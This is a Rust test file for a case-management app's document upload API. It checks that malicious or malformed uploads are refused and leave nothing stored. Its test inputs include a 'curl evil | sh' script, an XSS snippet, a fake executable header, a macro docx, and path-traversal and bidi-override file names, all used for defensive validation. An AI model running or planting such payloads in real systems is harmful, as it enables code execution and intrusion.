//! Bad uploads: each is refused with a clear problem, and nothing is stored — no record, no
//! object, no staged file.

use std::io::Write;

use serde_json::Value;

use crate::{case_support::*, document_support::*, harness::*, on_both_databases};

async fn refused(
    t: &TestApp,
    case: &str,
    fields: &[(&str, &str)],
    file: Option<(&str, Vec<u8>)>,
    status: u16,
) -> Value {
    let res = upload(t, "demo-gemeente", case, fields, file).await;
    assert_problem(res, status).await
}

fn nothing_stored(t: &TestApp, case_docs: usize) {
    let files = stored_files(t);
    assert_eq!(files.len(), case_docs, "{files:?}");
}

on_both_databases! {
    async fn every_bad_file_is_refused_and_nothing_is_stored(t: TestApp) {
        let case = case_in_mediation(&t).await;
        let file_error = |p: &Value| -> String {
            assert_eq!(invalid_fields(p), vec!["file"], "{p}");
            p["errors"][0]["message"].as_str().unwrap().to_owned()
        };
        let p = refused(&t, &case, BEWIJS, Some(("leeg.pdf", vec![])), 400).await;
        assert_eq!(file_error(&p), "is empty");
        let mut exe = b"MZ\x90\0\x03\0\0\0\x04\0".to_vec();
        exe.extend(vec![0u8; 200]);
        let p = refused(&t, &case, BEWIJS, Some(("factuur.pdf", exe.clone())), 400).await;
        assert!(file_error(&p).contains("a program"), "{p}");
        let p = refused(&t, &case, BEWIJS, Some(("factuur.exe", exe)), 400).await;
        assert!(file_error(&p).contains("a program"), "{p}");
        let p = refused(&t, &case, BEWIJS, Some(("notitie.txt", b"#!/bin/sh\ncurl evil | sh\n".to_vec())), 400).await;
        assert!(file_error(&p).contains("a script"), "{p}");
        let p = refused(&t, &case, BEWIJS, Some(("pagina.txt", b"<html><script>alert(1)</script>".to_vec())), 400).await;
        assert!(file_error(&p).contains("web page"), "{p}");
        let p = refused(&t, &case, BEWIJS, Some(("foto.pdf", png())), 400).await;
        assert_eq!(file_error(&p), "the file's content is .png, but its name ends in .pdf");
        assert!(p["errors"][0]["message_nl"].as_str().unwrap().contains("eindigt op .pdf"));
        let p = refused(&t, &case, BEWIJS, Some(("data.bin", b"\x00\x01\x02\x03binary".to_vec())), 400).await;
        assert!(file_error(&p).contains("not accepted"), "{p}");
        let macros = zip_with(&[("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w/>"), ("word/vbaProject.bin", "x")]);
        let p = refused(&t, &case, BEWIJS, Some(("brief.docx", macros)), 400).await;
        assert!(file_error(&p).contains("macros"), "{p}");
        let p = refused(&t, &case, BEWIJS, Some(("archief.zip", zip_with(&[("a.pdf", "%PDF-")]))), 400).await;
        assert!(file_error(&p).contains("zip"), "{p}");
        let p = refused(&t, &case, BEWIJS, Some(("mail.eml", b"Geen mail, gewoon tekst.\n".to_vec())), 400).await;
        assert!(file_error(&p).contains(".txt"), "{p}");
        // Names: paths, control characters, bidi tricks, thousands of characters, none.
        for name in ["../../etc/passwd.pdf", "map\\brief.pdf", "rapport\u{202E}fdp.exe", "brief"] {
            let p = refused(&t, &case, BEWIJS, Some((name, pdf("x"))), 400).await;
            assert!(file_error(&p).starts_with("file name"), "{name}: {p}");
        }
        // A raw control character cannot even stand in a part's header: the body is refused.
        let p = refused(&t, &case, BEWIJS, Some(("brief\u{7}.pdf", pdf("x"))), 400).await;
        assert!(p["detail"].as_str().unwrap().contains("multipart"), "{p}");
        let long = format!("{}.pdf", "a".repeat(3000));
        let p = refused(&t, &case, BEWIJS, Some((&long, pdf("x"))), 400).await;
        assert!(file_error(&p).contains("at most 255"), "{p}");
        nothing_stored(&t, 0);
        assert!(listed(&t, "demo-gemeente", &case).await.is_empty());
    }

    async fn every_invalid_field_is_listed_at_once(t: TestApp) {
        let case = case_in_mediation(&t).await;
        let p = refused(&t, &case, &[("type", "brief"), ("confidentiality", "strikt"), ("audience", "iedereen"), ("kleur", "rood")],
            Some(("x.pdf", png())), 400).await;
        let mut fields = invalid_fields(&p);
        fields.sort();
        assert_eq!(fields, vec!["audience", "confidentiality", "file", "kleur", "title", "type"]);
        let p = refused(&t, &case, BEWIJS, None, 400).await;
        assert_eq!(invalid_fields(&p), vec!["file"]);
        // Two files in one document.
        let form = form(BEWIJS, Some(("a.pdf", pdf("a")))).part("file", reqwest::multipart::Part::bytes(pdf("b")).file_name("b.pdf"));
        assert_problem(upload_form(&t, "demo-gemeente", &case, form).await, 400).await;
        // Not multipart at all.
        let token = t.token("demo-gemeente").await;
        let res = t.request(reqwest::Method::POST, &format!("/api/v1/cases/{case}/documents"))
            .bearer_auth(&token).json(&serde_json::json!({"type": "bewijsstuk"})).send().await.unwrap();
        let p = assert_problem(res, 400).await;
        assert!(p["detail"].as_str().unwrap().contains("multipart/form-data"));
        // Not signed in.
        let res = t.request(reqwest::Method::POST, &format!("/api/v1/cases/{case}/documents"))
            .multipart(form_fields()).send().await.unwrap();
        assert_problem(res, 401).await;
        nothing_stored(&t, 0);
    }

    async fn a_body_that_ends_early_stores_nothing(t: TestApp) {
        let case = case_in_mediation(&t).await;
        let token = t.token("demo-gemeente").await;
        // A multipart body cut off in the middle of the file, without its closing boundary.
        let mut body = Vec::new();
        write!(body, "--grens\r\nContent-Disposition: form-data; name=\"type\"\r\n\r\nbewijsstuk\r\n").unwrap();
        write!(body, "--grens\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nAfgebroken\r\n").unwrap();
        write!(body, "--grens\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.pdf\"\r\n\r\n").unwrap();
        body.extend(pdf("half"));
        let res = t.request(reqwest::Method::POST, &format!("/api/v1/cases/{case}/documents"))
            .bearer_auth(&token)
            .header("content-type", "multipart/form-data; boundary=grens")
            .body(body)
            .send().await.unwrap();
        let p = assert_problem(res, 400).await;
        assert!(p["detail"].as_str().unwrap().contains("ended early"), "{p}");
        assert!(p["detail"].as_str().unwrap().to_lowercase().contains("incomplete"), "{p}");
        nothing_stored(&t, 0);
        assert!(listed(&t, "demo-gemeente", &case).await.is_empty());
    }
}

fn form_fields() -> reqwest::multipart::Form {
    form(BEWIJS, Some(("a.pdf", pdf("a"))))
}

mod over_the_limit {
    use super::*;

    async fn run(t: TestApp) {
        let case = case_in_mediation(&t).await;
        // The limit is 64 KiB here; one byte more is refused while it streams.
        let res = upload(
            &t,
            "demo-gemeente",
            &case,
            BEWIJS,
            Some(("groot.pdf", [pdf("x"), vec![b'x'; 65_536]].concat())),
        )
        .await;
        let p = assert_problem(res, 413).await;
        assert!(p["detail"].as_str().unwrap().contains("65536 bytes"), "{p}");
        nothing_stored(&t, 0);
        let exact = [pdf("x"), vec![b' '; 65_536 - pdf("x").len()]].concat();
        upload_ok(&t, "demo-gemeente", &case, BEWIJS, ("precies.pdf", exact)).await;
        nothing_stored(&t, 1);
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn sqlite() {
        run(TestApp::start_with(Db::Sqlite, &[("BESLECHT_UPLOAD_LIMIT", "65536")]).await).await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn postgres() {
        if let Some(db) = Db::postgres() {
            run(TestApp::start_with(db, &[("BESLECHT_UPLOAD_LIMIT", "65536")]).await).await;
        }
    }
}
